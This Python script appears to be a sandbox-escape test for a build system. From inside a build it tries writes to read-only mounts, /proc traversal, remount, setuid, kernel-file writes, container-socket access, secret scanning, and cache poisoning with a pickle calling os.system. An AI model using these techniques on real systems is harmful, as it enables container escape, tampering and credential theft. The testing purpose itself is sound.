"""Runs inside a stranger's build and tries to harm others.

Says `ATTEMPT <name>: refused` or `ATTEMPT <name>: DONE` for each try, and `SEEN <where>` for each
place where it found what it must not see.
"""

# ruff: noqa: B023, PLW1510, T201
# Each attempt is made before its loop goes on, and speaks by what it prints.

import errno
import gzip
import os
import pickle
import socket
import stat
import subprocess
import sys
import tarfile
from io import BytesIO
from pathlib import Path

SHARED = [Path("/smidr/shared/sstate"), Path("/smidr/shared/downloads")]
READ_ONLY = [*SHARED, Path("/smidr/layers"), Path("/smidr/src")]
SECRET = b"operators-secret-" + b"7731"
REFUSALS = {errno.EROFS, errno.EACCES, errno.EPERM, errno.EXDEV, errno.EBUSY, errno.ENOENT}


def attempt(name, action):
    try:
        action()
    except OSError as error:
        known = error.errno in REFUSALS
        print(f"ATTEMPT {name}: {'refused' if known else error}")
    except subprocess.CalledProcessError:
        print(f"ATTEMPT {name}: refused")
    else:
        print(f"ATTEMPT {name}: DONE")


def files_below(root):
    return sorted(path for path in root.rglob("*") if path.is_file() and not path.is_symlink())


def write_to(path):
    with open(path, "ab") as file:
        file.write(b"evil")


def change_what_is_read_only():
    for root in READ_ONLY:
        files = files_below(root)
        assert files, f"nothing to attack in {root}"
        victim = files[0]
        attempt(f"create in {root}", lambda: write_to(root / "evil"))
        attempt(f"append in {root}", lambda: write_to(victim))
        attempt(f"truncate in {root}", lambda: os.truncate(victim, 0))
        attempt(f"delete in {root}", lambda: os.unlink(victim))
        attempt(f"rename in {root}", lambda: os.rename(victim, victim.with_name("gone")))
        attempt(f"make executable in {root}", lambda: os.chmod(victim, 0o777))
        attempt(f"touch in {root}", lambda: os.utime(victim))
        attempt(f"link into {root}", lambda: os.symlink("/etc/passwd", root / "link"))
        attempt(f"hard link from {root}", lambda: os.link(victim, "/smidr/build/own"))
        attempt(f"folder in {root}", lambda: os.mkdir(root / "folder"))
        for door in ("/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../../../../.."):
            attempt(f"append by {door} in {root}", lambda: write_to(door + str(victim)))
        handle = os.open(victim, os.O_RDONLY)
        attempt(f"open again in {root}", lambda: write_to(f"/proc/self/fd/{handle}"))


def change_it_through_links():
    for own in (Path("/smidr/sstate"), Path("/smidr/downloads")):
        links = [path for path in own.rglob("*") if path.is_symlink()]
        assert links, f"no links in {own}"
        attempt(f"append by a link of {own}", lambda: write_to(links[0]))
        attempt(f"truncate by a link of {own}", lambda: os.truncate(links[0], 0))
    borrowed = next(Path("/smidr/downloads/git2").glob("*/objects/info/alternates"))
    attempt("borrowed git objects", lambda: write_to(borrowed.read_text().strip() + "/evil"))


def leave_the_container():
    run = {"check": True, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    remount = "mount -o remount,bind,rw /smidr/shared/sstate && touch /smidr/shared/sstate/evil"
    attempt("remount", lambda: subprocess.run(["sh", "-c", remount], **run))
    attempt("namespace", lambda: subprocess.run(["unshare", "-rm", "sh", "-c", remount], **run))
    attempt("become root", lambda: os.setuid(0))
    attempt("su", lambda: subprocess.run(["su", "-c", "id"], stdin=subprocess.DEVNULL, **run))
    attempt(
        "device", lambda: os.mknod("/smidr/build/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0))
    )
    attempt("kernel setting", lambda: write_to("/proc/sys/kernel/core_pattern"))
    attempt("sysrq", lambda: write_to("/proc/sysrq-trigger"))
    for name in ("docker.sock", "podman/podman.sock", "containerd/containerd.sock"):
        attempt(f"engine {name}", lambda: connect(f"/var/run/{name}"))
        attempt(f"engine {name} again", lambda: connect(f"/run/{name}"))


def connect(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)


def look_for_secrets():
    for environ in Path("/proc").glob("[0-9]*/environ"):
        report_if_secret(environ)
    for root in ("/smidr", "/etc", "/tmp", "/run", "/root", "/home", "/var/tmp"):
        for top, _, names in os.walk(root):
            if top.startswith("/smidr/build/tmp/work"):
                continue  # this file
            for name in names:
                path = Path(top, name)
                if path.is_socket() and not top.startswith("/smidr/build"):
                    print(f"SEEN socket {path}")
                elif path.is_file() and path.stat().st_size < 4_000_000:
                    report_if_secret(path)
    for other in Path("/smidr").glob("../smidr/*"):
        if other.name in ("workspaces", "builds", "parse-cache", "locks", "smidr.db"):
            print(f"SEEN {other}")


def report_if_secret(path):
    try:
        if SECRET in path.read_bytes():
            print(f"SEEN secret {path}")
    except OSError:
        pass


def evil_archive():
    packed = BytesIO()
    with (
        gzip.GzipFile(fileobj=packed, mode="wb") as outer,
        tarfile.open(mode="w", fileobj=outer) as archive,
    ):
        entry = tarfile.TarInfo("usr/bin/hello")
        entry.size, entry.mode = 4, 0o755
        archive.addfile(entry, BytesIO(b"EVIL"))
    return packed.getvalue()


def poison_what_is_private(tmpdir):
    """Objects, downloads and caches under all the names that a later build would look for."""
    evil = evil_archive()
    for shared, own in ((SHARED[0], Path("/smidr/sstate")), (SHARED[1], Path("/smidr/downloads"))):
        for path in files_below(shared):
            target = own / path.relative_to(shared)
            if "/git2/" not in str(target):
                target.parent.mkdir(parents=True, exist_ok=True)
                target.unlink(missing_ok=True)
                target.write_bytes(evil)
    for refs in Path("/smidr/downloads/git2").glob("*/packed-refs"):
        refs.write_text("0" * 40 + " refs/heads/main\n")
    for folder in (Path(tmpdir, "cache"), Path("/smidr/build/cache")):
        for path in files_below(folder):
            path.write_bytes(pickle.dumps(Bomb()))


class Bomb:
    """Does harm when it is read as a pickle."""

    def __reduce__(self):
        return os.system, ("echo POISONED; touch /smidr/build/POISONED",)


def main():
    change_what_is_read_only()
    change_it_through_links()
    leave_the_container()
    look_for_secrets()
    poison_what_is_private(sys.argv[1])
    print("ATTACK OVER")


main()
